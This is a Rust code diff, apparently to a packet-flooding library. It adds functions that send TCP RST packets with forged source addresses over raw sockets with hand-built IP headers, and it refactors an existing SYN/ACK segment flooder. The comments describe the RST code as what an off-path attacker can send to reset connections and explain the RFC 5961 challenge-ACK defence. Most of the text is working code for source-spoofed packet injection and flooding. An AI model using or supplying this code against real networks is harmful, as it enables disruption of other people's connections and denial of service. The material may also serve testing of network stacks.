@@ -14,6 +14,8 @@ use std::{
 pub const SYN: u8 = 0x02;
 /// ACK: a bare ACK to a closed port looks like a segment of a connection its host forgot.
 pub const ACK: u8 = 0x10;
+/// RST: a reset, spoofed by whoever knows a connection's addresses and ports.
+pub const RST: u8 = 0x04;
 const TCP_HEADER: usize = 20;
 
 /// What a flood sent.
@@ -47,7 +49,71 @@ pub fn send_segments(
     count: u64,
     limit: Duration,
 ) -> io::Result<FloodReport> {
+    let first = u64::from(source.port().max(1024)) - 1024;
+    flood(target, count, limit, false, |sent| {
+        // From the source's port upward, wrapping within 1024..=65535.
+        let port = 1024 + ((first + sent) % 64_512) as u16;
+        tcp_segment(*source.ip(), port, target, flags, sent as u32)
+    })
+}
+
+/// Sends up to `count` RSTs from `source` to `target`, each at a pseudo-random sequence
+/// number drawn from `seed`, stopping early after `limit`: what an off-path attacker who
+/// knows a connection's addresses and ports but not its sequence numbers can send. Almost
+/// all fall outside the receive window and are dropped; the few inside it draw a challenge
+/// ACK (RFC 5961), and only one at exactly the next expected sequence number resets.
+pub fn spoofed_rsts(
+    source: SocketAddrV4,
+    target: SocketAddrV4,
+    count: u64,
+    limit: Duration,
+    seed: u64,
+) -> io::Result<FloodReport> {
+    let mut state = seed | 1;
+    flood(target, count, limit, true, |_| {
+        // xorshift64: uniform enough to spread over the sequence space.
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        spoofed_segment(source, target, RST, (state >> 16) as u32)
+    })
+}
+
+/// Sends one RST from `source` to `target` at sequence number `seq`, with TTL 64.
+pub fn spoofed_rst(source: SocketAddrV4, target: SocketAddrV4, seq: u32) -> io::Result<()> {
+    flood(target, 1, Duration::from_secs(1), true, |_| {
+        spoofed_segment(source, target, RST, seq)
+    })
+    .map(|_| ())
+}
+
+/// Sends up to `count` segments made by `make` (given how many were sent before) to
+/// `target`, stopping early after `limit`; with `own_ip_header` each segment starts with its
+/// IPv4 header (so its source may be any address).
+fn flood<S: AsRef<[u8]>>(
+    target: SocketAddrV4,
+    count: u64,
+    limit: Duration,
+    own_ip_header: bool,
+    mut make: impl FnMut(u64) -> S,
+) -> io::Result<FloodReport> {
     let socket = raw_tcp_socket()?;
+    if own_ip_header {
+        let on: libc::c_int = 1;
+        // SAFETY: setsockopt reads `on` for the length given.
+        if unsafe {
+            libc::setsockopt(
+                socket.as_raw_fd(),
+                libc::IPPROTO_IP,
+                libc::IP_HDRINCL,
+                (&raw const on).cast(),
+                size_of::<libc::c_int>() as libc::socklen_t,
+            )
+        } != 0
+        {
+            return Err(io::Error::last_os_error());
+        }
+    }
     let start = Instant::now();
     let destination = libc::sockaddr_in {
         sin_family: libc::AF_INET as libc::sa_family_t,
@@ -58,10 +124,9 @@ pub fn send_segments(
         sin_zero: [0; 8],
     };
     let mut sent = 0;
+    let mut next = make(0);
     while sent < count && start.elapsed() < limit {
-        // From the source's port upward, wrapping within 1024..=65535.
-        let port = 1024 + ((u64::from(source.port().max(1024)) - 1024 + sent) % 64_512) as u16;
-        let segment = tcp_segment(*source.ip(), port, target, flags, sent as u32);
+        let segment = next.as_ref();
         // SAFETY: `segment` and `destination` are valid for the lengths given.
         let written = unsafe {
             libc::sendto(
@@ -82,6 +147,7 @@ pub fn send_segments(
             return Err(error);
         }
         sent += 1;
+        next = make(sent);
     }
     Ok(FloodReport {
         sent,
@@ -124,6 +190,26 @@ fn tcp_segment(
     pseudo.extend_from_slice(&tcp);
     tcp[16..18].copy_from_slice(&internet_checksum(&pseudo).to_be_bytes());
     tcp
+}
+
+/// An IPv4 header (TTL 64, from `source`, the kernel fills in the checksum and id) and the
+/// TCP header of [`tcp_segment`].
+fn spoofed_segment(source: SocketAddrV4, target: SocketAddrV4, flags: u8, seq: u32) -> [u8; 40] {
+    let mut packet = [0u8; 40];
+    packet[0] = 0x45;
+    packet[2..4].copy_from_slice(&40u16.to_be_bytes());
+    packet[8] = 64;
+    packet[9] = libc::IPPROTO_TCP as u8;
+    packet[12..16].copy_from_slice(&source.ip().octets());
+    packet[16..20].copy_from_slice(&target.ip().octets());
+    packet[20..].copy_from_slice(&tcp_segment(
+        *source.ip(),
+        source.port(),
+        target,
+        flags,
+        seq,
+    ));
+    packet
 }
 
 /// RFC 1071's ones' complement sum.
